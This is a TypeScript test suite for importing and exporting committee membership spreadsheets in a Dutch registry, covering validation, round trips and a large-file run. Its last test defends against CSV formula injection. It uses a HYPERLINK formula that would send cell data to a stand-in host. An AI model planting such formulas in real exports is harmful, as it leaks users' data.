import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { openTestDatabase, type TestDatabase } from '../support/db.ts';
import { importMembership } from '../../src/services/registry/import-membership.ts';
import { exportMembership } from '../../src/services/registry/export-membership.ts';
import { importReport, exportReport } from '../../src/conversation/registry/import-report.ts';
import { createServiceDeps, type ServiceDeps } from '../../src/services/deps.ts';
import { handle } from '../../src/conversation/handle.ts';
import { renderReplies } from '../../src/platforms/console/render.ts';

let database: TestDatabase;
let deps: ServiceDeps;
let dir: string;
const actor = { personId: null, label: 'import test' } as const;
const NL = ['Gremium', 'Naam', 'E-mail', 'Organisatie', 'Namens', 'Rol', 'Van', 'Tot', 'Mandaat', 'Vervanger'];
const EN = ['Committee', 'Name', 'Email', 'Organisation', 'On behalf of', 'Role', 'From', 'Until', 'Mandate', 'Substitute'];

beforeAll(async () => {
  database = await openTestDatabase();
  deps = createServiceDeps({ db: database.db, now: () => new Date('2025-06-01T10:00:00Z'), caches: database.caches });
  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'gremium-import-'));
});
afterAll(async () => {
  await database?.close();
  await fs.rm(dir, { recursive: true, force: true });
});
beforeEach(async () => {
  await database.reset();
  await seedRegistry();
});

/** A minimal registry of its own: no dependence on the demo data. */
async function seedRegistry(committees = ['SBO', 'ORO']) {
  await deps.db.organisation.createMany({
    data: [
      { id: 'o-a', name: 'Gemeente Aalten', kind: 'MUNICIPALITY' },
      { id: 'o-b', name: 'Gemeente Berkelland', kind: 'MUNICIPALITY' },
      { id: 'o-n', name: 'Combinatie Noord', aliases: ['Noord'], kind: 'COMBINATION' },
      { id: 'o-x', name: 'Zorggroep Xenia', kind: 'PROVIDER' },
    ],
  });
  await deps.db.committee.createMany({
    data: committees.map((code) => ({
      id: `c-${code.toLowerCase()}`,
      code,
      name: code === 'SBO' ? 'Strategisch Bestuurlijk Overleg' : code === 'ORO' ? 'Operationeel Regie Overleg' : `Overleg ${code}`,
      partnership: 'Test',
      decisionRule: 'CONSENSUS',
      substituteRule: 'SAME_ORGANISATION',
      rhythmNote: 'maandelijks',
      sourceRef: 'test',
    })),
  });
  await deps.db.person.create({ data: { id: 'p-jan', name: 'Jan de Vries', email: 'jan@aalten.nl', organisationId: 'o-a' } });
}

async function counts() {
  const db = deps.db;
  return {
    seats: await db.seat.count(),
    persons: await db.person.count(),
    mandates: await db.mandate.count(),
    audit: await db.auditEntry.count(),
  };
}

type Cell = string | Date | null;
async function writeXlsx(name: string, rows: Cell[][]): Promise<string> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Blad1');
  for (const cells of rows) {
    const r = ws.addRow(cells);
    cells.forEach((c, i) => {
      if (c instanceof Date) r.getCell(i + 1).numFmt = 'd-m-yyyy'; // as Dutch Excel shows a date cell
    });
  }
  const file = path.join(dir, name);
  await wb.xlsx.writeFile(file);
  return file;
}
async function writeCsv(name: string, text: string, bom = false): Promise<string> {
  const file = path.join(dir, name);
  await fs.writeFile(file, (bom ? '\uFEFF' : '') + text, 'utf8');
  return file;
}
const day = (iso: string) => new Date(`${iso}T00:00:00Z`);

const GOOD: Cell[][] = [
  NL,
  ['SBO', 'Jan de Vries', 'jan@aalten.nl', 'Gemeente Aalten', '', 'lid', day('2025-01-01'), '', 'ja', 'Piet Jansen'],
  ['SBO', 'Piet Jansen', '', 'Gemeente Aalten', '', 'adviseur', '1-3-2025', '31-12-2026', 'nee', ''],
  ['Strategisch bestuurlijk overleg', 'Anne Smit', 'anne@noord.nl', 'Zorggroep Xenia', 'Noord', 'voorzitter', '2025-01-01', '', 'ja', ''],
  ['oro', 'Anne Smit', 'ANNE@noord.nl', 'Zorggroep Xenia', 'Combinatie Noord', 'Agenda committee', '2025-02-01', '', '', ''],
];

describe('importMembership', () => {
  it('refuses a bad file as a whole, listing every problem by row and column, in Dutch and English', async () => {
    const file = await writeXlsx('bad.xlsx', [
      NL,
      ['SBOO', 'Jan de Vries', '', 'Gemeente Aalten', '', 'lid', '2025-01-01', '', 'ja', ''],
      ['SBO', 'Piet Jansen', '', 'Gemeente Aalten', '', 'penningmeester', '2025-13-01', '', '', 'Jan de Vris'],
      ['SBO', 'Anne Smit', '', 'Zorggroep Xenya', '', 'lid', '2025-03-01', '2025-02-01', '', ''],
      ['ORO', 'Jan de Vries', '', 'Gemeente Aalten', '', 'lid', '2025-01-01', '', '', ''],
      ['ORO', 'Jan de Vries', 'jan@aalten.nl', 'Gemeente Aalten', '', 'member', '2025-06-01', '', '', ''],
    ]);
    const before = await counts();
    const result = await importMembership(deps, { file, actor });
    expect(await counts()).toEqual(before);
    expect(result.ok).toBe(false);
    const nl = importReport('nl', result).split('\n');
    expect(nl).toEqual([
      'Het bestand is niet ingelezen: 7 problemen. Er is niets gewijzigd.',
      "Rij 2, kolom Gremium: onbekend gremium 'SBOO'. Bedoelde u 'SBO'?",
      "Rij 3, kolom Rol: onbekende rol 'penningmeester'. Kies lid, adviseur, voorzitter, secretaris of agendacommissie.",
      "Rij 3, kolom Van: '2025-13-01' is geen datum. Schrijf bijvoorbeeld 2025-03-01 of 1-3-2025.",
      "Rij 3, kolom Vervanger: onbekende vervanger 'Jan de Vris': niemand met die naam is bekend of staat in het bestand. Bedoelde u 'Jan de Vries'?",
      'Rij 4, kolom Organisatie: onbekende organisatie \'Zorggroep Xenya\'. Bedoelde u \'Zorggroep Xenia\'?',
      'Rij 4, kolom Tot: de einddatum 2025-02-01 ligt vóór de begindatum 2025-03-01.',
      'Rij 6, kolom Van: dezelfde zetel (gremium, persoon, namens, rol) staat ook in rij 5, met een overlappende periode.',
    ]);
    const en = importReport('en', result).split('\n');
    expect(en[0]).toBe('The file was not imported: 7 problems. Nothing was changed.');
    expect(en[1]).toBe("Row 2, column Gremium: unknown committee 'SBOO'. Did you mean 'SBO'?");
    expect(en).toHaveLength(8);
    expect(!result.ok && result.error.problems.map((p) => `${p.row}:${p.column}:${p.code}`)).toContain('4:Organisatie:IMPORT_UNKNOWN_ORGANISATION');
  });

  it('names an unknown substitute with a suggestion, and an overlap with an existing seat', async () => {
    await importMembership(deps, { rows: rowsOf([NL, ['SBO', 'Jan de Vries', '', 'Gemeente Aalten', '', 'lid', '2024-01-01', '', '', '']]), actor });
    const result = await importMembership(deps, {
      rows: rowsOf([
        EN,
        ['SBO', 'Jan de Vries', '', 'Gemeente Aalten', '', 'member', '2025-01-01', '', '', 'Jan de Vris'],
        ['SBO', 'Piet Jansen', '', 'Gemeente Aalten', '', 'member', '2025-01-01', '', '', 'Piet Jansen'],
      ]),
      actor,
    });
    expect(importReport('en', result).split('\n').slice(1)).toEqual([
      'Row 2, column From: this person already holds this seat from 2024-01-01 with no end date; the periods overlap. List that seat in the file with an end date, or start this row later.',
      "Row 2, column Substitute: unknown substitute 'Jan de Vris': no one by that name is known or listed in the file. Did you mean 'Jan de Vries'?",
      "Row 3, column Substitute: 'Piet Jansen' cannot be their own substitute.",
    ]);
  });

  it('imports Dutch headers, real Excel date cells and 1-3-2025 dates, and audits every write', async () => {
    const file = await writeXlsx('leden.xlsx', GOOD);
    const result = await importMembership(deps, { file, actor });
    expect(result).toEqual({ ok: true, value: { created: 4, updated: 0, unchanged: 0, people: 2, emails: 0, mandates: 2 } });
    expect(importReport('nl', result)).toBe('Ingelezen: 4 zetels aangemaakt, 0 bijgewerkt, 0 ongewijzigd; 2 personen en 2 mandaten toegevoegd.');
    const piet = await deps.db.person.findFirstOrThrow({ where: { name: 'Piet Jansen' } });
    const jan = await deps.db.seat.findFirstOrThrow({ where: { personId: 'p-jan' } });
    expect(jan).toMatchObject({ startsOn: day('2025-01-01'), endsOn: null, substituteId: piet.id, role: 'MEMBER', onBehalfOfId: 'o-a' });
    expect(await deps.db.seat.findFirstOrThrow({ where: { personId: piet.id } })).toMatchObject({ startsOn: day('2025-03-01'), endsOn: day('2026-12-31') });
    const anne = await deps.db.person.findUniqueOrThrow({ where: { email: 'anne@noord.nl' }, include: { seats: true } });
    expect(anne.organisationId).toBe('o-x');
    expect(anne.seats.map((s) => [s.role, s.onBehalfOfId]).sort()).toEqual([['AGENDA_COMMITTEE', 'o-n'], ['CHAIR', 'o-n']]);
    expect(await deps.db.mandate.findMany({ select: { personId: true, organisationId: true, scope: true, endsOn: true } })).toHaveLength(2);
    const actions = await deps.db.auditEntry.groupBy({ by: ['action'], _count: true, orderBy: { action: 'asc' } });
    expect(actions.map((a) => [a.action, a._count])).toEqual([['mandate.create', 2], ['person.create', 2], ['seat.create', 4]]);
  });

  it("reads a ';' CSV with a BOM and English headers in a ',' CSV", async () => {
    const nl = await writeCsv('leden.csv', `${NL.join(';')}\r\nSBO;Jan de Vries;jan@aalten.nl;Gemeente Aalten;;lid;1-3-2025;;nee;\r\n"SBO";"Sanne Öztürk";;"Gemeente Berkelland";;"secretaris";"01-03-2025";"";"";""\r\n`, true);
    const r1 = await importMembership(deps, { file: nl, actor });
    expect(r1.ok && r1.value).toMatchObject({ created: 2, people: 1 });
    expect(await deps.db.person.findFirst({ where: { name: 'Sanne Öztürk' } })).not.toBeNull();
    const en = await writeCsv('members.csv', `${EN.join(',')}\nORO,"de Vries, Jan",,Gemeente Aalten,,chair,2025-03-01,2025-12-31,yes,\n`);
    const r2 = await importMembership(deps, { file: en, actor });
    expect(r2.ok && r2.value).toMatchObject({ created: 1, people: 1, mandates: 1 });
  });

  it('is idempotent, and updates an end date and substitute in place', async () => {
    const file = await writeXlsx('leden.xlsx', GOOD);
    await importMembership(deps, { file, actor });
    const before = await counts();
    const again = await importMembership(deps, { file, actor });
    expect(again).toEqual({ ok: true, value: { created: 0, updated: 0, unchanged: 4, people: 0, emails: 0, mandates: 0 } });
    expect(importReport('en', again)).toBe('Nothing changed: 4 rows already matched the registry.');
    expect(await counts()).toEqual(before);
    const changed = GOOD.map((r) => [...r]);
    changed[1] = ['SBO', 'Jan de Vries', 'jan@aalten.nl', 'Gemeente Aalten', '', 'lid', '2025-01-01', '2025-12-31', 'nee', ''];
    const update = await importMembership(deps, { file: await writeXlsx('changed.xlsx', changed), actor });
    expect(update.ok && update.value).toMatchObject({ created: 0, updated: 1, unchanged: 3 });
    const audit = await deps.db.auditEntry.findFirstOrThrow({ where: { action: 'seat.update' } });
    expect(audit).toMatchObject({ before: { until: null }, after: { until: '2025-12-31', substituteId: null } });
  });

  it("shows an import's change in the seat's history in words, not as a code", async () => {
    await importMembership(deps, { file: await writeXlsx('leden.xlsx', GOOD), actor });
    const changed = GOOD.map((r) => [...r]);
    changed[1] = ['SBO', 'Jan de Vries', 'jan@aalten.nl', 'Gemeente Aalten', '', 'lid', '2025-01-01', '2025-12-31', 'ja', ''];
    await importMembership(deps, { file: await writeXlsx('changed.xlsx', changed), actor });
    const history = async (text: string) => renderReplies(await handle(deps, { sender: { personId: 'p-jan' }, text }));
    const nl = await history('/gremium historie SBO Jan de Vries');
    expect(nl).toMatch(/import test: gewijzigd: einddatum — → 31 december 2025, vervanger Piet Jansen → —/);
    expect(nl).not.toContain('seat.update');
    const en = await history('/gremium history SBO Jan de Vries');
    expect(en).toMatch(/import test: changed: last day — → 31 December 2025, substitute Piet Jansen → —/);
  });

  it('refuses unsupported and missing files with a helpful message', async () => {
    const xls = await importMembership(deps, { file: path.join(dir, 'leden.xls'), actor });
    expect(importReport('nl', xls)).toMatch(/Sla een \.xls- of \.ods-bestand op als \.xlsx of \.csv/);
    const missing = await importMembership(deps, { file: path.join(dir, 'nope.xlsx'), actor });
    expect(importReport('en', missing)).toMatch(/does not exist/);
    const broken = await importMembership(deps, { file: await writeCsv('broken.xlsx', 'not a zip'), actor });
    expect(!broken.ok && broken.error.code).toBe('FILE_UNREADABLE');
  });
});

describe('exportMembership', () => {
  for (const [ext, lang] of [['xlsx', 'nl'], ['csv', 'nl'], ['xlsx', 'en'], ['csv', 'en']] as const) {
    it(`round trip through .${ext} (${lang} headers) changes nothing`, async () => {
      await importMembership(deps, { file: await writeXlsx('leden.xlsx', GOOD), actor });
      const before = await counts();
      const file = path.join(dir, `export-${lang}.${ext}`);
      const exported = await exportMembership(deps, { file, lang });
      expect(exportReport(lang, file, exported)).toContain(lang === 'nl' ? '4 zetels geschreven' : 'Wrote 4 seats');
      const result = await importMembership(deps, { file, actor });
      expect(result).toEqual({ ok: true, value: { created: 0, updated: 0, unchanged: 4, people: 0, emails: 0, mandates: 0 } });
      expect(await counts()).toEqual(before);
    });
  }

  it('writes the layout sorted by committee, role and name, dates as YYYY-MM-DD', async () => {
    await importMembership(deps, { file: await writeXlsx('leden.xlsx', GOOD), actor });
    const file = path.join(dir, 'export.csv');
    await exportMembership(deps, { file });
    const text = await fs.readFile(file, 'utf8');
    expect(text.replace(/^\uFEFF/, '').trim().split('\n')).toEqual([
      NL.join(';'),
      // Anne's SBO mandate (open-ended, general scope) also covers her ORO seat.
      'ORO;Anne Smit;anne@noord.nl;Zorggroep Xenia;Combinatie Noord;agendacommissie;2025-02-01;;ja;',
      'SBO;Jan de Vries;jan@aalten.nl;Gemeente Aalten;Gemeente Aalten;lid;2025-01-01;;ja;Piet Jansen',
      'SBO;Piet Jansen;;Gemeente Aalten;Gemeente Aalten;adviseur;2025-03-01;2026-12-31;nee;',
      'SBO;Anne Smit;anne@noord.nl;Zorggroep Xenia;Combinatie Noord;voorzitter;2025-01-01;;ja;',
    ]);
  });
});

describe('a large file', () => {
  it('imports 5,000 rows in one transaction, with progress', async () => {
    await database.reset();
    const codes = ['SBO', 'ORO', 'KBO', 'BOSD', 'DOSD'];
    await seedRegistry(codes);
    const orgs = ['Gemeente Aalten', 'Gemeente Berkelland', 'Combinatie Noord', 'Zorggroep Xenia'];
    const rows: Cell[][] = [NL];
    for (let p = 0; p < 1000; p += 1) {
      for (const [i, code] of codes.entries()) {
        const role = i === 0 ? 'lid' : i === 1 ? 'adviseur' : 'lid';
        const sub = p % 10 === 0 ? `Persoon ${(p + 1) % 1000}` : '';
        rows.push([code, `Persoon ${p}`, `persoon${p}@example.nl`, orgs[p % 4] ?? '', '', role, '2025-01-01', p % 3 === 0 ? '2026-12-31' : '', p % 2 === 0 ? 'ja' : 'nee', sub]);
      }
    }
    const file = await writeXlsx('groot.xlsx', rows);
    const progress: number[] = [];
    const started = performance.now();
    const result = await importMembership(deps, { file, actor, onProgress: (done, total) => progress.push(done / total) });
    const ms = performance.now() - started;
    expect(result).toEqual({ ok: true, value: { created: 5000, updated: 0, unchanged: 0, people: 1000, emails: 0, mandates: 500 } });
    expect(progress.at(-1)).toBe(1);
    expect(progress.length).toBeGreaterThan(5);
    expect(await counts()).toEqual({ seats: 5000, persons: 1001, mandates: 500, audit: 6500 });
    const again = performance.now();
    const second = await importMembership(deps, { file, actor });
    const msAgain = performance.now() - again;
    expect(second.ok && second.value.unchanged).toBe(5000);
    console.log(`5,000-row import (${database.kind}): ${Math.round(ms)} ms; unchanged re-import: ${Math.round(msAgain)} ms`);
  }, 300_000);
});

function rowsOf(rows: string[][]) {
  return rows.map((cells, i) => ({ row: i + 1, cells }));
}

describe('a CSV export opened in a spreadsheet', () => {
  it('writes cells that would run as formulas as text (OWASP), and reads them back unchanged', async () => {
    const evil = '=HYPERLINK("http://x.example/?"&A1;"klik")';
    await importMembership(deps, {
      file: await writeXlsx('formula.xlsx', [
        NL,
        ['SBO', evil, '', 'Gemeente Aalten', '', 'lid', '2025-01-01', '', 'ja', ''],
        ['ORO', '-Streep', '', 'Gemeente Berkelland', '', 'lid', '2025-01-01', '', '', ''],
      ]),
      actor,
    });
    expect(await deps.db.seat.count()).toBe(2);
    const file = path.join(dir, 'formula.csv');
    await exportMembership(deps, { file });
    const text = await fs.readFile(file, 'utf8');
    const cells = text.split('\n').flatMap((line) => line.split(';'));
    expect(cells.some((c) => /^"?[=+\-@]/.test(c))).toBe(false);
    expect(text).toContain(`'=HYPERLINK`);
    expect(text).toContain(`'-Streep`);
    const before = await counts();
    const result = await importMembership(deps, { file, actor });
    expect(result.ok && result.value.unchanged).toBe(2);
    expect(await counts()).toEqual(before);
    expect(await deps.db.person.count({ where: { name: evil } })).toBe(1);
  });
});
